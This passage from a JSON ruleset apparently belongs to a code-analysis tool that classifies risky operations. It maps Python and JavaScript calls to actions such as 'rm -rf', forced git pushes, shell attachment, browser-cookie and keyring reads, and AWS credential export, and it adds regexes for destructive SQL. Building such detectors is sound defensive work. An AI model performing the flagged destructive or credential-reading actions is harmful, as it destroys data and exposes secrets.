-able_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"taken_back":["^begin;(?:[^/*$'\\"\\\\\\\\-](?!\\\\bcommit\\\\b)){0,2000};rollback;?$","i"],"temporary":["\
-^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?\
-:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\
-\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROGRAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\
-\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?\
-|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(\
-?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\
-\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,30\
-0})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\\
-"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\\
-w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:sudo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"n\
-ew_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"],"peer_parameter":["^(?:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"class_or_self":["^(?:self|cls|this|[A-Z\
-]\\\\w*)$"],"field":["^(?:self\\\\.|this\\\\.|\\\\$this\\\\.|@\\\\w)"],"nothing":["^(?:None|null|undefined|nil|undef)$"],"nothing_or_false":["^(?:None|null|undefined|nil|un\
-def|false|False)$"],"encoding":["^(base64|hex)(?:url)?$"],"unread_encoding":["^(?:rot13|zlib|zip|bz2|uu)$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\\
-.bake)?$"],"text_method":["^(?:str|bytes)\\\\.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"stat\
-ic_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?\
-[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|re\
-ad\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\\
-||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\
-\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple"\
-:true,"single_escapes":true,"quoting":"none","patterns":false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_op\
-erators":[],"bare_calls":false,"function_keywords":["def"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer\
-","flask.request.form":"peer","flask.request.data":"peer","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.reque\
-st.query":"peer","bottle.request.forms":"peer","bottle.request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobot\
-ocore.","aioboto3.","google.cloud.","googleapiclient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","o\
-ci.","openstack.","libcloud.","stripe.","github.Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pine\
-cone.","qdrant_client.","weaviate.","pymilvus.","algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","\
-twilio.","sendgrid.","supabase.","appwrite.","contentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmo\
-xer.","vercel.","netlify.","tencentcloud.","aliyunsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira\
-.","atlassian.","notion_client.","asana.","replicate.","discord.","bigcommerce.","woocommerce.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.",\
-"etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk\
-.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.cur\
-dir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijklmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os\
-.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.system":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlop\
-en":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_csv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\
-\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","pathlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.\
-)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shutil."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathli\
-b.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","raw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:\
-path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs\
-":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"run rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0\
-:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shutil.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","\
-shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.copytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":\
-"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mknod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run \
-chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"run chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.Nam\
-edTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.popen":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd",\
-"asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec":"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spa\
-wn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin"\
-,"subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell \
-$0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin"\
-,"subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execute $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1.."\
-,"os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posi\
-x_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawn\
-v":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.spawnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach\
--shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Process":"made psutil.Process","psutil.process_iter":"entries any-process"\
-,"psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresu\
-id":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.inpu\
-t":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","flask.request.get_json":"received","flask.request.get_data":"received","urll\
-ib.parse.parse_qs":"received","urllib.parse.parse_qsl":"received","cgi.FieldStorage":"received","psutil.net_connections":"run lsof -i","os.write":"send $0 $1","\
-mailbox.mbox":"read $0","mailbox.Maildir":"read $0","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"read $0","p\
-andas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_from_file_location":"run python3 $1","run\
-py.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0","joblib.load":"load $0","torch.load"\
-:"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1:mode","bz2\
-.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made store $0","lmdb.open":"made store $0",\
-"plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zarr.open_group":"made store $0","tinydb.\
-TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twine upload x","configparser.ConfigParser":"made \
-config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made whole-update","crontab.CronTab":"if-o\
-ption:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-tool lookup x","secretstorage.get_all_collection\
-s":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret-tool lookup x","browser_cookie3.firef\
-ox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain.push":"if-\
-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run git filter-\
-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $0","psycopg2.sql.SQL":"value $0","sql.\
-SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalchemy.text":"value $0","staticmethod":"v\
-alue $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"module $0","getattr":"attribute $0 $1","enum\
-erate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","itertools.zip_longest":"rows","itertools.c\
-hain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.partial":"made bound $0 $1..","git.Rep\
-o":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.Repository":"made git $0","pygit2.init_\
-repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","unittest.mock.NonCallableMock":"mock","\
-unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error","FileNotFoundError":"made error","Permissio\
-nError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made error","TimeoutError":"made error","Connect\
-ionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"made error","unittest.mock.patch":"pat\
-cher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","pytest.MonkeyPatch":"made monkeypatch"\
-,"moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:keeps-real if-no-sign:other-imports if-no\
--sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","responses.RequestsMock":"if-no-\
-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_\
-mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-sign:besides-httpx patcher requests","py\
-fakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","airflow.utils.db.resetdb":"run sql drop-database db","fss\
-pec.filesystem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"m\
-ade mail","email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secr\
-et","netrc.netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"mad\
-e mock","sqlalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json\
-.loads":"parse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"ma\
-de whole","sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","\
-invoke.run":"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"v\
-alue .","os.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default"\
-,"os.path.dirname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","c\
-odecs.decode":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","\
-socket.socket":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.S\
-MTP":"made connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_u\
-rl","httpx.AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-pack\
-ages","paramiko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"ma\
-de ssh","invoke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:\
-url $1:data","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run cu\
-rl -o $1 $0","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params"\
-,"httpx.get":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","ht\
-tpx.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","htt\
-px.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","ht\
-tpx.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:para\
-ms","httpx.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $\
-:params","httpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","a\
-iohttp.ClientSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run dja\
-ngo-admin $0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"exclude":"if-owner:objects$ made rows | if-name:objects made\
- some-rows","splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard | if-git if-option:working_tree=True run g\
-it reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace run sql drop-table $0","push":"if-option:dry_run value | if-option:force\
-=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refs\
-pec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volumes":"run docker volume prune -af","delete_head":"if-git if-option:force\
-=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git \
-if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checko\
-ut":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:cron\
-tab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | send $self $0","write_to_user":"if-made:crontab run crontab -","unlink":"i\
-f-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | if-sign:business-objects run sql delete-all rows | run rm $s\
-elf","remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm\
- $0 | if-made:sftp run cloud-sdk delete | run rmdir $self","reboot":"if-made:library run reboot","add":"if-made:written read $0 | if-list append $self $all","ge\
-t_frozen_credentials":"run aws configure export-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-nam\
-e:objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | \
-if-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows r\
-un sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection \
-run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers \
-docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys\
-","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":\
-"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if\
--made:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-m\
-ade:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","append":"\
-if-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:\
-containers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1\
- run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $sel\
-f $0","sendfile":"send $self $0","recv":"received","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile":"received","communicate\
-":"send $self $0:input | value $self","readlines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $s\
-elf","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","co\
-nnect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storb\
-inary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kil\
-l":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:a\
-ny-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete r\
-un sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sq\
-l $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql\
-":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-ma\
-p pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","p\
-arse_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javasc\
-ript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","pat\
-terns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_key\
-words":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.\
-stdin":"text"},"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit",\
-"@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/\
-","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper",\
-"contentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@d\
-atadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@at\
-lassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":\
-{"__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)\
-(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=glo\
-balThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"]\
-,["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[\
-./])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.c\
-onstructor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"modu\
-le $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0",\
-"createRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInCo\
-ntext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execa\
-Command":"shell $0 $:input","shelljs.exec":"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.\
-pipeline":"pipe $0 $1","execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","chil\
-d_process.spawn":"spawn $0 $1:args $:shell $:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input\
-","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"wr\
-ite $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:us\
-ual=","Buffer.alloc":"value $:usual=","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0"\
-,"ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup\
- x","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:p\
-ath","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"\
-made store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service",\
-"ssh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomor\
-phic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.\
